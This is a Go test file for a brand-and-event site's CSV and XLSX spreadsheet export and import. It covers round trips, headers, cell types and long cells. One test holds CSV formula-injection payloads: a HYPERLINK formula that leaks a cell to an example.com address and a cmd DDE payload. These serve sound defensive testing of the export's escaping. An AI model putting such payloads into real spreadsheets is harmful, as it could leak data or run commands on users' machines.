package dataio_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"brandshow/ent"
	"brandshow/ent/brand"
	"brandshow/ent/event"
	"brandshow/server/dataio"
	"brandshow/server/store/storetest"
)

// sheetCodec is one spreadsheet format: how the export writes it and the
// import reads it.
type sheetCodec struct {
	ext   string
	write func(io.Writer, *dataio.Document, string) error
	read  func(string, io.Reader) (*dataio.Source, error)
}

var sheetCodecs = []sheetCodec{
	{".csv", dataio.WriteCSV, dataio.ReadCSV},
	{".xlsx", dataio.WriteXLSX, dataio.ReadXLSX},
}

// sheetCounts is what an import report says about the collection of a
// sheet kind, and how many records of that kind the document has.
func sheetCounts(rep dataio.Report, doc *dataio.Document, kind string) (dataio.Counts, int) {
	switch kind {
	case "brands":
		return rep.Brands, len(doc.Brands)
	case "events":
		return rep.Events, len(doc.Events)
	case "recognitions":
		return rep.Recognitions, len(doc.Recognitions)
	case "figures":
		return rep.Figures, len(doc.Figures)
	}
	panic("unknown sheet " + kind)
}

// exportSheet writes one sheet of the database's content and reads it back
// as the import does.
func exportSheet(t *testing.T, doc *dataio.Document, kind string, codec sheetCodec) ([]byte, *dataio.Source) {
	t.Helper()
	var buf bytes.Buffer
	if err := codec.write(&buf, doc, kind); err != nil {
		t.Fatalf("export %s%s: %v", kind, codec.ext, err)
	}
	src, err := codec.read(kind+codec.ext, bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("read back %s%s: %v", kind, codec.ext, err)
	}
	return buf.Bytes(), src
}

// dryRunChangesNothing imports a sheet as a dry run and requires every
// record of its kind to be found unchanged.
func dryRunChangesNothing(t *testing.T, c *ent.Client, src *dataio.Source, doc *dataio.Document, kind string) {
	t.Helper()
	rep, err := dataio.Import(ctx, c, src, dataio.Options{DryRun: true})
	if err != nil {
		t.Fatalf("dry run of the exported %s: %v\n%s", kind, err, strings.Join(rep.Lines(), "\n"))
	}
	got, n := sheetCounts(rep, doc, kind)
	if n == 0 || got != (dataio.Counts{Unchanged: n}) {
		t.Fatalf("importing the exported %s would change something: %+v for %d records (%v)", kind, got, n, rep.Lines())
	}
}

// TestSheetExportRoundTrip: each kind of spreadsheet, exported from the
// demo content as CSV and as XLSX, is read back by the import, whose dry
// run finds every record unchanged; the header is the import's columns;
// cells are written as the import spells them.
func TestSheetExportRoundTrip(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dia string) {
		db, _ := storetest.Fresh(t, dia, true)
		c := db.Client
		enrich(t, c)
		doc, err := dataio.Export(ctx, c)
		if err != nil {
			t.Fatal(err)
		}
		for _, kind := range dataio.SheetKinds {
			for _, codec := range sheetCodecs {
				t.Run(kind+codec.ext, func(t *testing.T) {
					data, src := exportSheet(t, doc, kind, codec)
					dryRunChangesNothing(t, c, src, doc, kind)
					rows := sheetRows(t, data, codec.ext)
					if want := columnNames(kind); !slices.Equal(rows[0], want) {
						t.Fatalf("header %v, want the import's columns %v", rows[0], want)
					}
					if _, n := sheetCounts(dataio.Report{}, doc, kind); len(rows) != 1+n {
						t.Fatalf("%d rows, want a header and %d records", len(rows), n)
					}
				})
			}
		}

		// The figures sheet has one row per figure of the demo, each figure once.
		demoFigures := c.Figure.Query().CountX(ctx)
		for _, codec := range sheetCodecs {
			data, _ := exportSheet(t, doc, "figures", codec)
			rows := sheetRows(t, data, codec.ext)
			slug := slices.Index(rows[0], "slug")
			seen := map[string]bool{}
			for _, r := range rows[1:] {
				seen[r[slug]] = true
			}
			if demoFigures < 100 || len(rows)-1 != demoFigures || len(seen) != demoFigures {
				t.Fatalf("%s: %d figure rows (%d slugs) for the %d figures of the demo", codec.ext, len(rows)-1, len(seen), demoFigures)
			}
			figure := row(t, rows, "slug", "badong-kuaidi-yuan-trained-2022")
			if figure["metric"] != "TRAINED" || figure["period"] != "2022" || figure["value"] != "350" || figure["as_of"] != "" || figure["status"] != "PUBLISHED" {
				t.Fatalf("%s: figure row %v", codec.ext, figure)
			}
		}

		// Cells as the import spells them: an all-day event by its dates in
		// Asia/Shanghai, its last day inclusive; enums; booleans; lists.
		data, _ := exportSheet(t, doc, "events", sheetCodecs[0])
		if !bytes.HasPrefix(data, []byte("\ufeffslug,title_zh,title_en,kind,starts_at,ends_at,all_day,")) {
			t.Fatalf("the CSV does not start with a byte order mark and the header: %.80q", data)
		}
		rows := sheetRows(t, data, ".csv")
		ev := row(t, rows, "slug", "2026-11-hanxiu-zhanshi")
		if ev["starts_at"] != "2026-11-20" || ev["ends_at"] != "2026-11-26" || ev["all_day"] != "true" || ev["cancelled"] != "false" ||
			ev["kind"] != "EXHIBITION" || ev["brands"] != "wuchang-hanxiu-niang" || ev["venue"] != "wuchang-hanxiu-feiyi-gongfang" {
			t.Fatalf("event row %v", ev)
		}
		timed := c.Event.Query().Where(event.AllDay(false)).FirstX(ctx)
		if got := row(t, rows, "slug", timed.Slug)["starts_at"]; got != timed.StartsAt.In(shanghai(t)).Format("2006-01-02 15:04") {
			t.Fatalf("starts_at of %s: %q, want %s in Asia/Shanghai", timed.Slug, got, timed.StartsAt)
		}
		data, _ = exportSheet(t, doc, "brands", sheetCodecs[1])
		first := c.Brand.Query().Order(brand.BySlug()).FirstX(ctx) // enriched: rated AA
		b := row(t, sheetRows(t, data, ".xlsx"), "slug", first.Slug)
		if b["credit_rating"] != "AA" || b["category"] != first.Category.String() || b["workers_employed"] != itoa(first.WorkersEmployed) ||
			b["in_resource_library"] != boolText(first.InResourceLibrary) || b["name_zh"] != first.NameZh {
			t.Fatalf("brand row %v, brand %+v", b, first)
		}

		// The workbook: one sheet named after the kind, the header bold and
		// frozen, whole numbers as number cells.
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		if got := x.GetSheetList(); !slices.Equal(got, []string{"brands"}) {
			t.Fatalf("sheets %v", got)
		}
		panes, err := x.GetPanes("brands")
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Fatalf("panes %+v %v", panes, err)
		}
		style, _ := x.GetCellStyle("brands", "A1")
		if s, err := x.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
			t.Fatalf("header style %+v %v", s, err)
		}
		col := slices.Index(columnNames("brands"), "workers_employed")
		axis, _ := excelize.CoordinatesToCellName(col+1, 2)
		if typ, _ := x.GetCellType("brands", axis); typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
			t.Fatalf("workers_employed is a %v cell, want a number", typ)
		}
	})
}

// sheetRows reads an exported sheet's cells as they are in the file (a
// CSV's ' escapes included), without the byte order mark.
func sheetRows(t *testing.T, data []byte, ext string) [][]string {
	t.Helper()
	if ext == ".csv" {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return rows
	}
	x, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows(x.GetSheetList()[0], excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// row returns the row whose column col holds value, by column name.
func row(t *testing.T, rows [][]string, col, value string) map[string]string {
	t.Helper()
	j := slices.Index(rows[0], col)
	for _, r := range rows[1:] {
		if j >= 0 && j < len(r) && r[j] == value {
			m := map[string]string{}
			for k, name := range rows[0] {
				if k < len(r) {
					m[name] = r[k]
				}
			}
			return m
		}
	}
	t.Fatalf("no row with %s %s", col, value)
	return nil
}

// columnNames are the import's column names of a sheet kind, in order.
func columnNames(kind string) []string {
	var names []string
	switch kind {
	case "brands":
		for _, c := range dataio.BrandColumns {
			names = append(names, c.Name)
		}
	case "events":
		for _, c := range dataio.EventColumns {
			names = append(names, c.Name)
		}
	case "recognitions":
		for _, c := range dataio.RecognitionColumns {
			names = append(names, c.Name)
		}
	case "figures":
		for _, c := range dataio.FigureColumns {
			names = append(names, c.Name)
		}
	}
	return names
}

func itoa(n int) string { return strconv.Itoa(n) }

func boolText(b bool) string { return strconv.FormatBool(b) }

func shanghai(t *testing.T) *time.Location {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Shanghai")
	if err != nil {
		t.Skip("no time zone data:", err)
	}
	return loc
}

// TestSheetExportFormulaCells: text that a spreadsheet app would run as a
// formula (CSV injection: =, +, -, @ first) is written so it stays text — in
// CSV with a leading ', which the import takes off again; in XLSX as text
// cells, which are never formulas — and the import reads every value back
// as it was. A plain negative number stays a number.
func TestSheetExportFormulaCells(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dia string) {
		db, _ := storetest.Fresh(t, dia, true)
		c := db.Client
		hostile := map[string]string{
			"name_en":     `=HYPERLINK("https://example.com/x?leak="&A1,"click")`,
			"summary_zh":  "+1+cmd|' /C calc'!A0",
			"summary_en":  "-2+3",
			"industry_en": "@SUM(1+1)",
			"industry_zh": "'=already quoted",
			"story_en":    "'plain apostrophe",
			"story_zh":    "\t=tab first", // a sheet cell is trimmed on import: compared trimmed below
		}
		b := c.Brand.Query().Order(brand.BySlug()).FirstX(ctx)
		c.Brand.UpdateOne(b).SetNameEn(hostile["name_en"]).SetSummaryZh(hostile["summary_zh"]).SetSummaryEn(hostile["summary_en"]).
			SetIndustryEn(hostile["industry_en"]).SetIndustryZh(hostile["industry_zh"]).SetStoryEn(hostile["story_en"]).
			SetStoryZh(strings.TrimSpace(hostile["story_zh"])).ExecX(ctx)
		hostile["story_zh"] = strings.TrimSpace(hostile["story_zh"])
		ev := c.Event.Query().Order(event.BySlug()).FirstX(ctx)
		c.Event.UpdateOne(ev).SetLatitude(-33.8675).SetLongitude(-70.25).ExecX(ctx)
		doc, err := dataio.Export(ctx, c)
		if err != nil {
			t.Fatal(err)
		}

		data, src := exportSheet(t, doc, "brands", sheetCodecs[0])
		got := row(t, sheetRows(t, data, ".csv"), "slug", b.Slug)
		for col, want := range map[string]string{
			"name_en":     "'" + hostile["name_en"],
			"summary_zh":  "'" + hostile["summary_zh"],
			"summary_en":  "'-2+3",
			"industry_en": "'@SUM(1+1)",
			"industry_zh": "''=already quoted",
			"story_en":    "''plain apostrophe",
			"story_zh":    "'=tab first",
		} {
			if got[col] != want {
				t.Errorf("CSV %s: %q, want %q", col, got[col], want)
			}
		}
		dryRunChangesNothing(t, c, src, doc, "brands")
		data, src = exportSheet(t, doc, "events", sheetCodecs[0])
		if e := row(t, sheetRows(t, data, ".csv"), "slug", ev.Slug); e["latitude"] != "-33.8675" || e["longitude"] != "-70.25" {
			t.Errorf("a negative number is escaped: %v", e)
		}
		dryRunChangesNothing(t, c, src, doc, "events")

		data, src = exportSheet(t, doc, "brands", sheetCodecs[1])
		got = row(t, sheetRows(t, data, ".xlsx"), "slug", b.Slug)
		x, err := excelize.OpenReader(bytes.NewReader(data))
		if err != nil {
			t.Fatal(err)
		}
		defer x.Close()
		names := columnNames("brands")
		rows := sheetRows(t, data, ".xlsx")
		r := slices.IndexFunc(rows, func(r []string) bool { return len(r) > 0 && r[0] == b.Slug })
		for col, want := range hostile {
			if got[col] != want {
				t.Errorf("XLSX %s: %q, want it as it is, %q", col, got[col], want)
			}
			axis, _ := excelize.CoordinatesToCellName(slices.Index(names, col)+1, r+1)
			typ, _ := x.GetCellType("brands", axis)
			formula, _ := x.GetCellFormula("brands", axis)
			if typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString || formula != "" {
				t.Errorf("XLSX %s (%s) is a %v cell with formula %q, want a text cell", col, axis, typ, formula)
			}
		}
		dryRunChangesNothing(t, c, src, doc, "brands")

		// A sheet typed by hand: the import takes exactly one ' off a cell
		// that starts with ' and then a formula character or ', and leaves
		// other cells alone.
		typed := "slug,name_en,industry_en,summary_en\n" + b.Slug + ",'=1+2,'quoted',''@x\n"
		if _, err := importBytes(t, c, "typed.csv", []byte(typed), dataio.Options{}); err != nil {
			t.Fatal(err)
		}
		if b := c.Brand.GetX(ctx, b.ID); b.NameEn != "=1+2" || b.IndustryEn != "'quoted'" || b.SummaryEn != "'@x" {
			t.Fatalf("typed cells read as %q, %q, %q", b.NameEn, b.IndustryEn, b.SummaryEn)
		}
	})
}

// TestSheetExportLongCell: a text longer than a spreadsheet cell holds
// (32,767 characters) is refused by the XLSX export with its place, rather
// than cut; CSV, which has no such limit, writes it and reads it back whole.
func TestSheetExportLongCell(t *testing.T) {
	storetest.Each(t, func(t *testing.T, dia string) {
		db, _ := storetest.Fresh(t, dia, true)
		c := db.Client
		b := c.Brand.Query().Order(brand.BySlug()).FirstX(ctx)
		c.Brand.UpdateOne(b).SetStoryEn(strings.Repeat("Long story.", 3300)).ExecX(ctx) // 36,300 characters
		doc, err := dataio.Export(ctx, c)
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		err = dataio.WriteXLSX(&buf, doc, "brands")
		if err == nil || !strings.Contains(err.Error(), "slug "+b.Slug+"), column story_en: 36300 characters") {
			t.Fatalf("XLSX with a 36,300-character cell: %v", err)
		}
		_, src := exportSheet(t, doc, "brands", sheetCodecs[0])
		dryRunChangesNothing(t, c, src, doc, "brands")
		if err := dataio.WriteCSV(&buf, doc, "nonsense"); err == nil || !strings.Contains(err.Error(), "brands, events, recognitions, figures") {
			t.Fatalf("unknown sheet: %v", err)
		}
	})
}
